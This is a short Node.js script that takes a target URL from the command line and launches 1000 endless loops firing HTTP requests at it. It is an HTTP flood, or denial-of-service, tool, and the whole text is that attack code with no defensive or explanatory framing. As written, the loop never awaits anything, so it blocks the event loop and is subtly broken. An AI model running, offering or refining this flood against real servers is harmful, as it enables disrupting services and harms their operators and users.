const target = process.argv[2];
async function hammer() {
  while (true) {
    fetch(target).catch(() => {});
  }
}
for (let i = 0; i < 1000; i++) hammer();
